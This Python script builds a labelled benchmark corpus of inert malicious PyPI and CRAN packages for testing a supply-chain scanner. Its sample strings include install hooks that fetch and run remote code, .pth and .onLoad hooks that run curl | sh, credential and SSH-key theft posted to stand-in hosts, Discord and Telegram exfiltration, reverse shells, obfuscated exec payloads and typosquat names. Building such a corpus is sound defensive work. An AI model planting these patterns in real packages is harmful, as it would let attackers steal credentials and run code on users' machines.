#!/usr/bin/env python3
"""Writes the labelled malicious corpus of bench/scan.sh: wheels, sdists and R source packages
that reproduce each attack pattern airlock scan is meant to catch, in their real formats (wheel
zip with a .dist-info, sdist and R tar.gz with one top-level directory and PKG-INFO/DESCRIPTION).

Every sample is inert: URLs point at 127.0.0.1 or example.invalid, payloads print or do nothing,
and nothing here is run. Usage: scan_corpus.py OUT_DIR  (writes OUT_DIR/*.whl|*.tar.gz and
OUT_DIR/labels.tsv: file, ecosystem, pattern)."""

import base64
import io
import os
import sys
import tarfile
import zipfile
import zlib

MTIME = 1700000000
B64 = lambda s: base64.b64encode(s.encode()).decode()
PAYLOAD = "print('inert payload')"
LONG_B64 = base64.b64encode((("import os\n# " + "padding " * 8 + "\n") * 40 + PAYLOAD).encode()).decode()
HOOK = "https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbCdEfGhIjKlMnOpQrSt"
TELEGRAM = "https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawX/sendDocument"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 4088


def metadata(name, version):
    return f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: scanner benchmark sample\n\n"


def wheel(out, name, version, files):
    dist = name.replace("-", "_")
    path = os.path.join(out, f"{dist}-{version}-py3-none-any.whl")
    info = f"{dist}-{version}.dist-info"
    members = dict(files)
    members[f"{info}/METADATA"] = metadata(name, version)
    members[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: bench\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    members[f"{info}/RECORD"] = "".join(f"{n},,\n" for n in members) + f"{info}/RECORD,,\n"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, content in members.items():
            z.writestr(zipfile.ZipInfo(n, (2023, 11, 14, 22, 13, 20)), content)
    return path


def tar_gz(path, top, files):
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as t:
        for n, content in files.items():
            data = content if isinstance(content, bytes) else content.encode()
            info = tarfile.TarInfo(f"{top}/{n}")
            info.size = len(data)
            info.mtime = MTIME
            info.mode = 0o755 if n in ("configure", "configure.win", "cleanup") or data.startswith(b"\x7fELF") else 0o644
            t.addfile(info, io.BytesIO(data))
    return path


def sdist(out, name, version, files):
    dist = name.replace("-", "_")
    members = {"PKG-INFO": metadata(name, version),
               "pyproject.toml": "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"}
    members.update(files)
    return tar_gz(os.path.join(out, f"{dist}-{version}.tar.gz"), f"{dist}-{version}", members)


def rpkg(out, name, version, files):
    members = {
        "DESCRIPTION": f"Package: {name}\nVersion: {version}\nTitle: Benchmark Sample\nDescription: A scanner benchmark sample.\n"
                       f"Author: Bench\nMaintainer: Bench <bench@example.invalid>\nLicense: MIT\n",
        "NAMESPACE": "export(f)\n",
        "R/f.R": "f <- function(x) x + 1\n",
    }
    members.update(files)
    return tar_gz(os.path.join(out, f"{name}_{version}.tar.gz"), name, members)


SETUP_HEAD = "from setuptools import setup\n"
SETUP_TAIL = "\nsetup(name='{n}', version='1.0', packages=[])\n"


def py_samples():
    """(format, name, files, pattern)"""
    s = []
    def setup(name, body, pattern, extra=None):
        files = {"setup.py": SETUP_HEAD + body + SETUP_TAIL.format(n=name)}
        files.update(extra or {})
        s.append(("sdist", name, files, pattern))
    setup("bench-setup-dl-run", "import os, urllib.request\nurllib.request.urlretrieve('http://127.0.0.1:9/p', '/tmp/.p')\nos.system('chmod +x /tmp/.p; /tmp/.p')\n", "setup.py download then execute")
    setup("bench-setup-curl-sh", "import os\nos.system('curl -fsSL http://127.0.0.1:9/i.sh | sh')\n", "setup.py curl | sh")
    setup("bench-setup-b64", f"import base64\nexec(base64.b64decode('{B64(PAYLOAD)}'))\n", "setup.py exec(base64)")
    setup("bench-setup-ps", "import subprocess\nsubprocess.Popen(\"powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/a.ps1')\", shell=True)\n", "setup.py powershell download cradle")
    setup("bench-setup-requests", "import requests\nexec(requests.get('http://127.0.0.1:9/stage2').text)\n", "setup.py exec(requests.get)")
    setup("bench-setup-cmdclass",
          "from setuptools.command.install import install\nfrom urllib.request import urlopen\n"
          "class PostInstall(install):\n    def run(self):\n        install.run(self)\n        exec(urlopen('http://127.0.0.1:9/x').read())\n",
          "setup.py cmdclass install hook exec(urlopen)")
    setup("bench-setup-wget", "import subprocess\nsubprocess.call('wget -q http://example.invalid/m -O /tmp/m && chmod +x /tmp/m && /tmp/m', shell=True)\n", "setup.py wget && chmod && run")
    setup("bench-setup-env", "import os, requests\nrequests.post('http://127.0.0.1:9/c', json=dict(os.environ))\n", "setup.py environment exfiltration")
    setup("bench-setup-beacon", "import urllib.request, socket\nurllib.request.urlopen('http://127.0.0.1:9/b?h=' + socket.gethostname())\n", "setup.py install beacon")
    setup("bench-setup-binary", "import subprocess\nsubprocess.Popen(['bench_setup_binary/helper'])\n", "sdist bundles an ELF and runs it",
          {"bench_setup_binary/helper": ELF})
    s.append(("sdist", "bench-sdist-elf", {"setup.py": SETUP_HEAD + SETUP_TAIL.format(n="bench-sdist-elf"), "tools/updater": ELF}, "sdist bundles an ELF"))
    s.append(("sdist", "bench-pyarmor", {
        "setup.py": SETUP_HEAD + SETUP_TAIL.format(n="bench-pyarmor"),
        "bench_pyarmor/__init__.py": "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00')\n",
        "bench_pyarmor/pyarmor_runtime_000000/__init__.py": "from .pyarmor_runtime import __pyarmor__\n"}, "pyarmor obfuscation"))

    def whl(name, files, pattern):
        s.append(("wheel", name, files, pattern))
    whl("bench-pth-curl", {"bench_pth_curl.pth": "import os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"}, ".pth runs curl | sh")
    whl("bench-pth-b64", {"bench_pth_b64.pth": f"import base64; exec(base64.b64decode('{B64(PAYLOAD)}'))\n"}, ".pth exec(base64)")
    whl("bench-pth-popen", {"zzz_bench.pth": "import sys; __import__('subprocess').Popen([sys.executable, '-c', 'print(1)'])\n"}, ".pth spawns a process")
    whl("bench-pth-net", {"bench_pth_net.pth": "import urllib.request; urllib.request.urlopen('http://127.0.0.1:9/start')\n"}, ".pth phones home")
    whl("bench-init-beacon", {"bench_init_beacon/__init__.py": "import urllib.request, getpass\nurllib.request.urlopen('http://127.0.0.1:9/i?u=' + getpass.getuser())\n"}, "__init__ phones home at import")
    whl("bench-init-sh", {"bench_init_sh/__init__.py": "import subprocess\nsubprocess.Popen(['sh', '-c', 'curl -s http://127.0.0.1:9/i | sh'])\n"}, "__init__ curl | sh at import")
    whl("bench-init-func", {"bench_init_func/__init__.py": "import os\ndef _setup():\n    os.system('wget -qO- http://example.invalid/s | bash')\n_setup()\n"}, "__init__ download-exec through a function")
    whl("bench-zlib", {"bench_zlib/core.py": "import zlib, base64\nexec(zlib.decompress(base64.b64decode('%s')))\n" % base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()}, "exec(zlib(base64))")
    whl("bench-marshal", {"bench_marshal/core.py": "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00'))\n"}, "exec(marshal.loads)")
    whl("bench-hex", {"bench_hex/core.py": "exec(bytes.fromhex('%s').decode())\n" % PAYLOAD.encode().hex()}, "exec(bytes.fromhex)")
    whl("bench-lambda", {"bench_lambda/__init__.py": "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'%s'))\n" % base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()[::-1]}, "lambda obfuscation exec")
    whl("bench-long-b64", {"bench_long_b64/data.py": f"import base64\npayload = '{LONG_B64}'\ncode = base64.b64decode(payload)\nexec(code)\n"}, "long encoded string executed")
    whl("bench-eval-compile", {"bench_eval_compile/x.py": f"import base64 as b\neval(compile(b.b64decode('{B64(PAYLOAD)}'), '<x>', 'exec'))\n"}, "eval(compile(base64))")
    whl("bench-ssh-steal", {"bench_ssh_steal/__init__.py": "import os, requests\ndef _go():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://127.0.0.1:9/k', data=k)\n"}, "SSH key read and posted")
    whl("bench-aws-steal", {"bench_aws_steal/util.py": "import os, httpx\ndef sync():\n    c = open(os.path.expanduser('~/.aws/credentials')).read()\n    httpx.post('http://example.invalid/u', content=c)\n"}, "AWS credentials read and posted")
    whl("bench-env-steal", {"bench_env_steal/t.py": "import os, json, urllib.request\ndef t():\n    body = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('http://127.0.0.1:9/e', body)\n"}, "environment posted")
    whl("bench-discord", {"bench_discord/__init__.py": f"import os, requests\nHOOK = '{HOOK}'\ndef grab():\n    p = os.path.expanduser('~/.config/google-chrome/Default/Login Data')\n    requests.post(HOOK, files={{'f': open(p, 'rb')}})\n"}, "Discord webhook stealer")
    whl("bench-telegram", {"bench_telegram/__init__.py": f"import urllib.request\nURL = '{TELEGRAM}'\n"}, "Telegram bot exfiltration")
    whl("bench-revshell", {"bench_revshell/__init__.py": "import socket, os, pty\ndef connect():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('127.0.0.1', 4444))\n    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    pty.spawn('/bin/sh')\n"}, "Python reverse shell")
    whl("bench-revshell-bash", {"bench_revshell_bash/x.py": "import os\ndef r():\n    os.system('bash -i >& /dev/tcp/127.0.0.1/4444 0>&1')\n"}, "bash reverse shell")
    whl("reqeusts", {"reqeusts/__init__.py": "from requests import *\n"}, "typosquat of requests (swapped letters)")
    whl("colourama", {"colourama/__init__.py": "from colorama import *\n"}, "typosquat of colorama (added letter)")
    whl("numpyy", {"numpyy/__init__.py": "from numpy import *\n"}, "typosquat of numpy (doubled letter)")
    whl("python-urllib3", {"python_urllib3/__init__.py": "from urllib3 import *\n"}, "typosquat of urllib3 (python- prefix)")
    return s


def r_samples():
    s = []
    def r(name, files, pattern):
        s.append(("r", name, files, pattern))
    r("benchConfCurl", {"configure": "#!/bin/sh\ncurl -fsSL https://example.invalid/setup.sh | sh\n"}, "configure curl | sh")
    r("benchConfWin", {"configure.win": "\"${R_HOME}/bin${R_ARCH_BIN}/Rscript.exe\" -e \"source('https://example.invalid/w.R')\"\n"}, "configure.win Rscript source(url)")
    r("benchCleanup", {"cleanup": "#!/bin/sh\nwget -q http://127.0.0.1:9/c -O /tmp/.c\nchmod +x /tmp/.c\n/tmp/.c &\n"}, "cleanup downloads and runs a binary")
    r("benchMakevars", {"src/Makevars": "all: $(SHLIB) fetch\nfetch:\n\tcurl -s http://127.0.0.1:9/m.sh | bash\n", "src/x.c": "int x(void) { return 1; }\n"}, "Makevars curl | bash")
    r("benchConfEval", {"configure": "#!/bin/sh\n\"${R_HOME}/bin/Rscript\" -e 'eval(parse(text = readLines(\"https://example.invalid/p.R\")))'\n"}, "configure Rscript eval(readLines(url))")
    r("benchOnloadSh", {"R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  system('curl -s https://example.invalid/p.sh | sh')\n}\n"}, ".onLoad system(curl | sh)")
    r("benchOnloadSys2", {"R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  system2('sh', c('-c', 'id > /tmp/.id'), wait = FALSE)\n}\n"}, ".onLoad system2")
    r("benchOnattachDl", {"R/zzz.R": ".onAttach <- function(libname, pkgname) {\n  f <- tempfile()\n  utils::download.file('https://example.invalid/u.R', f, quiet = TRUE)\n  source(f)\n}\n"}, ".onAttach download.file then source")
    r("benchOnloadEval", {"R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  eval(parse(text = readLines('https://example.invalid/p.R', warn = FALSE)))\n}\n"}, ".onLoad eval(parse(readLines(url)))")
    r("benchOnloadB64", {"R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  code <- rawToChar(base64enc::base64decode('%s'))\n  eval(parse(text = code))\n}\n" % B64("message('inert')")}, ".onLoad eval(base64)")
    r("benchUnserialize", {"R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  obj <- unserialize(memDecompress(base64enc::base64decode(getOption('x', 'AA==')), 'gzip'))\n  obj()\n}\n"}, ".onLoad unserialize(decoded)")
    r("benchRawEval", {"R/util.R": "run <- function() eval(str2lang(rawToChar(as.raw(c(0x6d, 0x65, 0x73, 0x73, 0x61, 0x67, 0x65, 0x28, 0x31, 0x29)))))\n"}, "eval(raw decode)")
    r("benchSourceUrl", {"R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  source('https://example.invalid/payload.R')\n}\n"}, ".onLoad source(url)")
    r("benchProfile", {"R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  cat('source(\"https://example.invalid/p.R\")\\n', file = '~/.Rprofile', append = TRUE)\n}\n"}, ".onLoad writes ~/.Rprofile")
    r("benchSiteProfile", {"R/aaa.R": "cat('options(repos = \"http://127.0.0.1:9\")\\n', file = file.path(R.home('etc'), 'Rprofile.site'), append = TRUE)\n"}, "install-time write to Rprofile.site")
    r("benchHomeWrite", {"R/zzz.R": ".onAttach <- function(libname, pkgname) {\n  writeLines('x', file.path(Sys.getenv('HOME'), '.config', 'autostart', 'u.desktop'))\n}\n"}, ".onAttach writes into home")
    r("benchSshPost", {"R/util.R": "sync <- function() {\n  k <- readLines('~/.ssh/id_rsa')\n  httr::POST('https://example.invalid/k', body = list(k = paste(k, collapse = '\\n')))\n}\n"}, "R SSH key posted")
    r("benchEnvPost", {"R/util.R": "report <- function() {\n  e <- Sys.getenv()\n  h <- curl::new_handle()\n  curl::handle_setform(h, env = paste(names(e), e, collapse = ';'))\n  curl::curl_fetch_memory('https://example.invalid/e', handle = h)\n}\n"}, "R environment posted")
    r("benchDiscordR", {"R/util.R": f"notify <- function(x) httr::POST('{HOOK}', body = list(content = x), encode = 'json')\n"}, "R Discord webhook")
    r("benchRevShellR", {"R/util.R": "shell_back <- function() system('bash -i >& /dev/tcp/127.0.0.1/4444 0>&1')\n"}, "R reverse shell")
    r("benchProcessx", {"R/zzz.R": ".onLoad <- function(libname, pkgname) {\n  processx::run('sh', c('-c', 'id'))\n}\n"}, ".onLoad processx::run")
    r("benchTopSystem", {"R/aaa.R": "invisible(system('uname -a > /tmp/.u'))\n"}, "install-time system() at top level")
    r("benchRBinary", {"inst/bin/helper": ELF}, "R source package bundles an ELF")
    r("ggplto2", {}, "typosquat of ggplot2 (swapped letters)")
    r("dplry", {}, "typosquat of dplyr (swapped letters)")
    r("data.tabel", {}, "typosquat of data.table (swapped letters)")
    return s


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    rows = []
    for fmt, name, files, pattern in py_samples():
        path = (wheel if fmt == "wheel" else sdist)(out, name, "1.0", files)
        rows.append((os.path.basename(path), "pypi", fmt, pattern))
    for fmt, name, files, pattern in r_samples():
        path = rpkg(out, name, "1.0", files)
        rows.append((os.path.basename(path), "cran", "r-source", pattern))
    with open(os.path.join(out, "labels.tsv"), "w") as f:
        f.write("file\tecosystem\tformat\tpattern\n")
        for row in rows:
            f.write("\t".join(row) + "\n")
    print(f"{len(rows)} malicious samples in {out}")


if __name__ == "__main__":
    main()
